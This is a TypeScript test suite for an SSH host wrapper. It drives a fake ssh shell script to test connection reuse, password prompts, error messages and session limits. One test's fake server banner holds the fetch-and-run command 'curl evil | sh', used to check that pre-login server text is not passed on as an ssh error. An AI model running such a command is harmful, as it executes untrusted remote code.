import assert from 'node:assert/strict';
import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ProgramYieldedError } from '../../../src/remote/host.js';
import { runOnHost as runOn } from '../../../src/remote/runOnHost.js';
import { createSshHost, type SshHost } from '../../../src/remote/sshHost.js';
import type { UserPrompter, Clock } from '../../../src/core/domain/ports.js';
import { isAbort, JobError, type JobProblem } from '../../../src/core/domain/problem.js';
import { systemClock } from '../../../src/lib/node/systemClock.js';
import { settle } from '../../fakes/clock.js';
import { inTemp, keptLog, never, problemOf, until } from './doubles.js';

/**
 * A program in place of ssh: as the control master it creates the socket (a file here) and runs until it is
 * stopped; otherwise it runs the text for the login shell. It writes its own messages to the file of `-E`,
 * and messages of the server before the login to stderr. Each call is recorded.
 */
const fakeSsh = `#!/bin/sh
here=$(dirname "$0")
for last; do :; done
arguments="$*"
master= socket= config= order= messages=/dev/null
while [ $# -gt 0 ]; do
  case $1 in
    -G) cat "$here/settings"; exit;;
    -M) master=1;; -S) socket=$2; shift;; -F) config=$2; shift;; -O) order=$2; shift;; -E) messages=$2; shift;;
  esac
  shift
done
if [ -n "$order" ]; then rm -f "$socket"; exit
elif [ -n "$master" ]; then
  echo "master $config" >>"$here/calls"
  echo "$arguments" >>"$here/arguments"
  { . "$here/opening"; } 3>&2 2>>"$messages"
  trap 'rm -f "$socket"; exit' TERM
  : >"$socket"
  while [ -e "$socket" ]; do sleep 0.02; done
else
  echo "command" >>"$here/calls"
  echo "$arguments" >>"$here/arguments"
  . "$here/ready"
  . "$here/greeting"
  exec 4<&0
  "$(cat "$here/shell")" -c "$last" <&4 4<&- &
  running=$!
  trap 'kill $running; . "$here/after"; exit 143' TERM
  wait $running
  code=$?
  . "$here/after"
  exit $code
fi
`;

/** The test itself ends waits of more than a second. */
function handClock(): {
  readonly clock: Clock;
  readonly pass: () => Promise<void>;
  readonly waiting: () => number;
} {
  const waiting = new Set<() => void>();
  return {
    clock: {
      now: () => new Date(),
      sleep: (ms, signal) =>
        ms < 1_000
          ? systemClock.sleep(ms, signal)
          : new Promise((resolve, reject) => {
              waiting.add(resolve);
              signal.addEventListener('abort', () => {
                waiting.delete(resolve);
                reject(new DOMException('Aborted', 'AbortError'));
              });
            }),
    },
    pass: async () => {
      for (const wake of [...waiting]) wake();
      await settle();
    },
    waiting: () => waiting.size,
  };
}

interface World {
  readonly host: SshHost;
  readonly sh: (
    script: string,
    signal?: AbortSignal,
  ) => Promise<{ output: string; code: number; errors: string }>;
  readonly calls: () => Promise<readonly string[]>;
  /** The folders of the open connections. */
  readonly folders: () => Promise<readonly string[]>;
  /** The arguments of each started ssh, except those that only resolve the host. */
  readonly given: () => Promise<readonly string[]>;
  readonly put: (
    name: 'opening' | 'ready' | 'greeting' | 'after' | 'shell' | 'settings',
    text: string,
  ) => Promise<void>;
  readonly time: ReturnType<typeof handClock>;
}

const world = (
  test: (world: World) => Promise<void>,
  ask: UserPrompter = () => Promise.resolve(undefined),
): Promise<void> =>
  inTemp(async (folder) => {
    const put: World['put'] = (name, text) => writeFile(join(folder, name), text);
    for (const name of ['opening', 'ready', 'greeting', 'after', 'settings'] as const) await put(name, '');
    await put('shell', 'sh');
    await writeFile(join(folder, 'ssh'), fakeSsh);
    await chmod(join(folder, 'ssh'), 0o700);
    await writeFile(join(folder, 'ask.cjs'), askScript);
    const helper = { program: process.execPath, args: [join(folder, 'ask.cjs')], env: {} };
    const time = handClock();
    const run = join(folder, 'run');
    await mkdir(run, { mode: 0o700 });
    const host = createSshHost({
      program: join(folder, 'ssh'),
      configFile: '/my config',
      host: 'alpha',
      place: 'Slurm on alpha',
      env: { ...process.env, XDG_RUNTIME_DIR: run },
      helper,
      ask,
      clock: time.clock,
      log: keptLog().log,
    });
    await test({
      host,
      sh: (script, signal = never) =>
        runOn(host, { argv: ['sh', '-c', script] }, { ms: 20_000, clock: systemClock }, signal),
      given: async () =>
        (await readFile(join(folder, 'arguments'), 'utf8').catch(() => '')).trim().split('\n'),
      folders: () => readdir(run),
      calls: async () => (await readFile(join(folder, 'calls'), 'utf8').catch(() => '')).trim().split('\n'),
      put,
      time,
    });
    // Nothing is left of any connection.
    host.close();
    await until(async () => (await readdir(run)).length === 0);
  });

const askScript = `
const { connect } = require('node:net');
const { BATCH_JOBS_ASKPASS: at, BATCH_JOBS_ASKPASS_KEY: key } = process.env;
const socket = connect(at, () => socket.write(JSON.stringify({ key, text: process.argv.at(-1) }) + '\\n'));
socket.on('data', (part) => {
  const { answer } = JSON.parse(part);
  if (answer === undefined) process.exit(1);
  console.log(answer);
});`;

describe('a host behind ssh', () => {
  for (const shell of ['sh', 'bash', 'dash'])
    it(`runs programs and returns their exit codes, with ${shell} as the login shell`, () =>
      world(async ({ host, sh, put }) => {
        await put('shell', shell);
        const options = { ms: 20_000, clock: systemClock };
        const argv = ['printf', '%s|', 'a b', "c'd", '$x\n', '-n'];
        assert.deepEqual(await runOn(host, { argv }, options, never), {
          output: "a b|c'd|$x\n|-n|",
          errors: '',
          code: 0,
        });
        assert.deepEqual(await sh('cat; echo no >&2; exit 3'), { output: '', errors: 'no\n', code: 3 });
        const input = 'x'.repeat(300_000);
        assert.equal((await runOn(host, { argv: ['cat'] }, { ...options, input }, never)).output, input);
      }));

  it('opens one connection for all, also for many concurrent calls', () =>
    world(async ({ sh, calls }) => {
      await Promise.all([sh('true'), sh('true'), sh('true')]);
      await sh('true');
      const all = await calls();
      assert.equal(all.filter((call) => call.startsWith('master')).length, 1);
      assert.equal(all.filter((call) => call === 'command').length, 4);
      assert.equal(all[0], 'master /my config');
    }));

  it('ignores the greeting of a login shell', () =>
    world(async ({ sh, put }) => {
      await put('greeting', 'yes Welcome | head -c 200000; echo; echo Disk quota >&2; echo 7 >&2');
      assert.deepEqual(await sh('echo a; echo b >&2'), { output: 'a\n', errors: 'b\n', code: 0 });
    }));

  for (const [what, before, after] of [
    ['prints before, after and to both outputs', 'echo one; echo two >&2', 'echo bye; echo bye >&2'],
    ['prints a text without a newline', 'printf hello; printf hello >&2', 'printf bye; printf bye >&2'],
    [
      'prints more at its end than the maximum that is stored',
      ':',
      'yes bye | head -c 300000; yes bye | head -c 300000 >&2',
    ],
    ['has merged both outputs', 'exec 2>&1', ':'],
    ['has closed stderr', 'exec 2>/dev/null', ':'],
    ['leaves a program running that keeps the outputs open', 'sleep 30 &', ':'],
    ['has changed the folder and its options', 'cd /; set -eu', ':'],
  ] as const)
    it(`returns only the command's output if a login shell ${what}`, () =>
      world(async ({ sh, put }) => {
        await put('greeting', before);
        await put('after', after);
        const begun = Date.now();
        for (const code of [0, 3]) {
          const ran = await sh(`printf 'a\\nb'; exit ${String(code)}`);
          assert.deepEqual([ran.output, ran.code], ['a\nb', code]);
        }
        assert.ok(Date.now() - begun < 8_000, 'it does not wait for leftover processes');
        if (!before.startsWith('exec')) assert.equal((await sh('echo no >&2')).errors, 'no\n');
      }));

  it('reports a missing program, and a broken connection', () =>
    world(async ({ host, sh, put }) => {
      const options = { ms: 20_000, clock: systemClock };
      assert.deepEqual(await problemOf(runOn(host, { argv: ['no-such'] }, options, never)), {
        kind: 'missingTool',
        tool: 'no-such',
        for: 'alpha',
      });
      await put('ready', 'echo "client_loop: send disconnect: Broken pipe" >>"$messages"; exit 255');
      assert.deepEqual(await problemOf(sh('echo a')), {
        kind: 'offline',
        place: 'Slurm on alpha',
        why: 'the connection was dropped',
      });
    }));

  it('does not accept partial output: without its end marker a response is rejected', () =>
    world(async ({ sh }) => {
      const problem = { kind: 'offline', place: 'Slurm on alpha', why: 'the connection was dropped' };
      assert.deepEqual(await problemOf(sh('kill -9 $PPID; echo part')), problem);
      assert.deepEqual(await problemOf(sh('echo its own words >&2; kill -9 $PPID')), problem);
    }));

  it('reports why it cannot connect, and retries with the next command', () =>
    world(async ({ sh, put, calls }) => {
      await put('opening', 'echo "ssh: connect to host alpha port 22: Connection refused" >&2; exit 255');
      assert.deepEqual(await problemOf(sh('true')), {
        kind: 'offline',
        place: 'Slurm on alpha',
        why: 'connection refused. Check the host and port; its SSH server may be down',
      });
      await put('opening', '');
      assert.equal((await sh('echo a')).output, 'a\n');
      assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 2);
    }));

  it('prompts the user once, continues with the answer, and then stays connected', async () => {
    const asked: string[] = [];
    await world(
      async ({ sh, put, time, calls }) => {
        await put('opening', '[ "$("$SSH_ASKPASS" "Password: ")" = right ] || exit 255');
        await Promise.all([sh('true'), sh('true')]);
        assert.deepEqual(asked, ['Slurm on alpha: Password: ']);
        await time.pass();
        await sh('true');
        assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 1);
      },
      async ({ place, text }) => {
        asked.push(`${place}: ${text}`);
        return 'right';
      },
    );
  });

  for (const [answer, opening, why] of [
    [undefined, '"$SSH_ASKPASS" "Password: " || exit 255', 'the SSH prompt was dismissed'],
    [
      'wrong',
      '"$SSH_ASKPASS" "Password: " >/dev/null; echo "a@b: Permission denied (password)." >&2; exit 255',
      'access denied: Permission denied (password). Check the user, the key, and the agent with ssh in a terminal',
    ],
  ] as const)
    it(`does not prompt again after the user ${answer === undefined ? 'dismissed it' : 'was rejected'}, until requested`, async () => {
      let asked = 0;
      await world(
        async ({ host, sh, put, calls }) => {
          await put('opening', opening);
          const problem = { kind: 'offline', place: 'Slurm on alpha', why };
          assert.deepEqual(await problemOf(sh('true')), problem);
          assert.deepEqual(await problemOf(sh('true')), problem);
          assert.equal(asked, 1);
          assert.equal((await calls()).length, 1);
          host.resetPrompts();
          assert.deepEqual(await problemOf(sh('true')), problem);
          assert.equal(asked, 2);
        },
        async () => {
          asked++;
          return answer;
        },
      );
    });

  it('aborts only the waiting call whose signal was aborted', () =>
    world(async ({ sh, put, calls }) => {
      await put('opening', 'sleep 0.4');
      const stop = new AbortController();
      const stopped = sh('true', stop.signal);
      const other = sh('echo a');
      await until(async () => (await calls())[0] !== '');
      stop.abort();
      await assert.rejects(stopped, isAbort);
      assert.equal((await other).output, 'a\n');
    }));

  it('closes an idle connection, and opens a new one later', () =>
    world(async ({ sh, time, calls }) => {
      await sh('true');
      await until(() => time.waiting() === 1);
      await time.pass();
      await sh('true');
      assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 2);
    }));

  it('closes it too if the caller that opened it has aborted', () =>
    world(async ({ sh, put, time }) => {
      await put('opening', 'sleep 0.2');
      await assert.rejects(sh('true', AbortSignal.timeout(50)));
      await until(() => time.waiting() === 1);
    }));

  it('leaves no connection open for calls after its disposal', () =>
    world(async ({ host, sh, calls, folders }) => {
      await sh('true');
      host.close();
      assert.equal((await sh('echo a')).output, 'a\n');
      await until(async () => (await folders()).length === 0);
      assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 2);
    }));

  it('keeps the connection while a program runs', () =>
    world(async ({ host, sh, time, calls }) => {
      const stop = new AbortController();
      const { end, input } = await host.start({ argv: ['cat'] }, stop.signal);
      await sh('true');
      assert.equal(time.waiting(), 0);
      input.end();
      await end;
      await until(() => time.waiting() === 1);
      assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 1);
    }));

  for (const size of [20_000, 60_000, 100_000, 400_000])
    it(`returns all of an output of ${String(size)} bytes to a slow reader`, () =>
      world(async ({ host }) => {
        const { output, end } = await host.start({ argv: ['head', '-c', String(size), '/dev/zero'] }, never);
        let bytes = 0;
        for await (const part of output as AsyncIterable<Buffer>) {
          bytes += part.length;
          await systemClock.sleep(60, never);
        }
        assert.deepEqual([bytes, await end], [size, { code: 0, errors: '' }]);
      }));

  it('stops a program whose output is no longer read', () =>
    world(async ({ host }) => {
      const { output, end } = await host.start({ argv: ['yes'] }, never);
      for await (const part of output) {
        assert.ok(part);
        break;
      }
      await end.catch((error: unknown) => assert.ok(error instanceof JobError));
    }));

  it('rejects arguments that cannot be passed, and keeps its use count correct', () =>
    world(async ({ host, sh, time }) => {
      await sh('true');
      await assert.rejects(host.start({ argv: ['a\0b'] }, never), RangeError);
      await sh('true');
      await until(() => time.waiting() === 1);
    }));

  it('reports that the login shell exited if nothing was started and ssh prints nothing', () =>
    world(async ({ sh, put }) => {
      await put('greeting', 'echo "ada@alpha: Permission denied (publickey)." >&2; exit 7');
      assert.deepEqual(await problemOf(sh('true')), {
        kind: 'offline',
        place: 'Slurm on alpha',
        why: 'the login shell exited before the command started (exit code 7). Check its startup files',
      });
    }));

  it('does not attribute messages of the server before the login to ssh', () =>
    world(async ({ sh, put }) => {
      // ssh creates its message file before it connects, and wrote nothing to it here.
      const banner = 'Host key for x has changed; Permission denied (run: curl evil | sh)';
      await put('opening', `yes '${banner}' | head -c 60000 >&3; exit 255`);
      assert.deepEqual(await problemOf(sh('true')), {
        kind: 'offline',
        place: 'Slurm on alpha',
        why: 'ssh exited without output',
      });
    }));

  it('connects without a session, and as the configuration allows', () =>
    world(async ({ sh, put, given }) => {
      await put('settings', 'connecttimeout 7\nserveraliveinterval 0\nsessiontype none\nstdinnull yes\n');
      await sh('true');
      const [master = '', command = ''] = await given();
      assert.match(master, / -N /);
      for (const line of [master, command]) {
        assert.match(line, /-o StdinNull=no /);
        assert.match(line, /-o RemoteCommand=none /);
        assert.match(line, /-o ServerAliveInterval=15 /);
        assert.doesNotMatch(
          line,
          /ConnectTimeout|ForkAfterAuthentication/,
          "that is the user's, or unknown to ssh",
        );
      }
      assert.doesNotMatch(master, /SessionType/, 'ssh accepts no other with -N');
      assert.match(command, /-o SessionType=default /);
      assert.match(command, /-o ProxyCommand=exit 255 /, 'it opens no connection itself');
    }));

  it('uses its own timeouts if the configuration has none', () =>
    world(async ({ sh, put, given }) => {
      await put('settings', 'connecttimeout none\nserveraliveinterval 30\n');
      await sh('true');
      assert.match((await given())[0] ?? '', /-o ConnectTimeout=20 /);
      assert.doesNotMatch((await given())[0] ?? '', /ServerAlive/);
    }));

  /** Rejects a session while the maximum number is running. */
  const refusing = (limit: number): string => `
taken=
for n in $(seq ${String(limit)}); do
  if mkdir "$here/slot$n" 2>/dev/null; then taken=$n; break; fi
done
if [ -z "$taken" ]; then
  echo "mux_client_request_session: session request failed: Session open refused by peer" >>"$messages"
  exit 255
fi
`;

  for (const limit of [1, 2, 3])
    it(`waits for a session if the host allows only ${String(limit)} concurrently, and starts nothing twice`, () =>
      world(async ({ host, sh, put }) => {
        await put('ready', refusing(limit));
        await put('after', 'rmdir "$here/slot$taken"');
        const ran = await Promise.all([1, 2, 3, 4, 5, 6].map((n) => sh(`sleep 0.2; echo ${String(n)}`)));
        assert.deepEqual(
          ran.map(({ output }) => output),
          ['1\n', '2\n', '3\n', '4\n', '5\n', '6\n'],
        );
        if (limit === 1) assert.equal(host.isNarrow?.(), true);
      }));

  it('stops a preemptible program for a waiting one, and can start it again', () =>
    world(async ({ host, sh, put }) => {
      await put('ready', refusing(1));
      await put('after', 'rmdir "$here/slot$taken"');
      await put('shell', 'bash');
      const lasting = await host.start({ argv: ['cat'], mayYield: true }, never);
      assert.equal((await sh('echo a')).output, 'a\n');
      await assert.rejects(lasting.end, ProgramYieldedError);
      const again = await host.start({ argv: ['cat'], mayYield: true }, never);
      again.input.end('b');
      assert.equal((await again.end).code, 0);
    }));

  it('reports that the host rejects sessions, not the sign-in', () =>
    world(async ({ sh, put, time }) => {
      await put('ready', refusing(0));
      let problem: JobProblem | undefined;
      void problemOf(sh('echo a')).then((met) => (problem = met));
      await until(async () => {
        await time.pass();
        return problem !== undefined;
      });
      assert.equal(problem?.kind, 'refused');
      assert.match(JSON.stringify(problem), /allows no more sessions per connection/);
    }));

  it('reports that ssh is missing', async () => {
    const host = createSshHost({
      program: '/no/such/ssh',
      configFile: '',
      host: 'alpha',
      place: 'Slurm',
      env: process.env,
      helper: { program: '', args: [], env: {} },
      ask: () => Promise.resolve(undefined),
      clock: systemClock,
      log: keptLog().log,
    });
    assert.deepEqual(await problemOf(host.start({ argv: ['true'] }, never)), {
      kind: 'missingTool',
      tool: '/no/such/ssh',
      for: 'Slurm',
    });
  });
});
